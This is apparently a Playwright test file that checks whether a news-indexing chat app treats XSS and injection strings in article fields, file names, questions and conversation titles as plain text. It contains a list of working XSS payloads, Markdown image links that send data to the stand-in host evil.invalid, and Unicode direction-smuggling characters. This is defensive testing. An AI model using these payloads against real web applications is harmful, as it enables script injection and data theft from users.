"""Nothing of an article, a file's name or a question runs in the page, becomes an element of it, or is fetched."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.browsing import ask

pytestmark = pytest.mark.door
pytest_plugins = ("tests.browser_fixtures",)
ATTACK = "<img src=x onerror=window.pwned=1>"
# After OWASP's cheat sheet on evading XSS filters, and the ways that Markdown carries data out of a chat.
ATTACKS = (
    ATTACK,
    "<script>window.pwned=1</script>",
    "<svg/onload=window.pwned=1>",
    "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href=javascript:window.pwned=1>read on</a>",
    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<style>@import 'http://evil.invalid/c.css'</style>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid><button autofocus onfocus=window.pwned=1>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "</textarea><img src=x onerror=window.pwned=1>",
    "![x](http://evil.invalid/?d=1)",
    "![x][r]\n\n[r]: http://evil.invalid/?d=2",
    "[read on](javascript:window.pwned=1)",
    "<http://evil.invalid/auto>",
    "\u202e\u2066gnp.exe\u2069 \U000e0041",
)
HOSTILE = f"{ATTACK} opens the dam\n\nThe dam was opened on Monday, {ATTACK} said. ![x](http://evil.invalid/?d=1)\n"
ACTIVE = "main, aside, nav, dialog"  # where text of articles and users is shown


def test_a9_s4_an_indexed_file_is_listed_and_hostile_names_stay_text(page: Page, tmp_path: Path) -> None:
    path = tmp_path / "<b onmouseover=pwned=1>dam.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    page.set_input_files("#article-files", str(path))
    page.get_by_text("1 of 1 indexed").wait_for()
    assert ATTACK in page.inner_text("#articles")
    ask(page, "When was the dam opened?")
    page.click(".reply .cite >> nth=0")
    assert page.evaluate("window.pwned") is None
    assert page.locator("main img, aside img").count() == 0


def unharmed(page: Page) -> None:
    """Nothing ran, none of it became an element, and what hides or turns text about is written out."""
    assert page.evaluate("window.pwned") is None
    for name in ("img", "script", "iframe", "svg", "math", "style", "base", "meta", "object", "a[href]"):
        assert page.locator(f":is({ACTIVE}) {name}").count() == 0
    assert not {"\u202e", "\u2066", "\u2069", "\U000e0041"} & set(page.inner_text("body"))


def test_a9_s2_s4_attacks_through_title_byline_text_and_publisher_stay_text(page: Page, address: str) -> None:
    for number, attack in enumerate(ATTACKS):
        title = attack.replace("\n", " ")
        told = {
            "title": f"Weir {number} {title}",
            "byline": title,
            "text": f"The weir {number} was shut, {attack} said.",
        }
        line = json.dumps({"id": f"weir-{number}", "publisher": title, **told})
        given = {"name": f"weir{number}.jsonl", "content_base64": base64.b64encode(line.encode()).decode()}
        indexed = page.request.post(f"{address}/api/v1/index", data={"files": [given]})
        assert indexed.json()["failed"] == []
    page.reload()
    page.wait_for_selector('body[data-ready="true"]')
    page.fill("#article-filter", "weir")
    assert page.locator("#articles li").count() == len(ATTACKS)
    for number in range(len(ATTACKS)):
        page.locator("#articles .open").nth(number).click()
        page.locator("#drawer-text").wait_for()
        unharmed(page)
    assert "\\u202e" in page.inner_text("#articles")
    ask(page, "Which weir was shut?")
    unharmed(page)
    ask(page, "The weir 3 was shut.", "verify")
    unharmed(page)


@pytest.mark.parametrize("mode", ["ask", "compare", "quotes"])
def test_a9_s2_s4_attacks_through_what_is_asked_stay_text(page: Page, mode: str) -> None:
    ask(page, "“" + "” and “".join(attack.replace("\n", " ") for attack in ATTACKS) + "”", mode)
    unharmed(page)


def test_a9_an_attack_as_a_conversations_name_stays_text(page: Page) -> None:
    ask(page, "Who continues talks?")
    page.click("#rename")
    page.fill("#asking-value", "".join(ATTACKS)[:400])
    page.click("#asking-yes")
    page.locator("#talk-title", has_text="onerror").wait_for()
    unharmed(page)
    with page.expect_download() as exported:
        page.click("#export")
    assert "Who continues talks?" in Path(exported.value.path()).read_text(encoding="utf-8")


def test_a9_s4_a_question_full_of_markup_stays_text(page: Page) -> None:
    ask(page, f"{ATTACK} [x](javascript:alert(1))?")
    assert ATTACK in page.inner_text("#thread")
    assert page.evaluate("window.pwned") is None
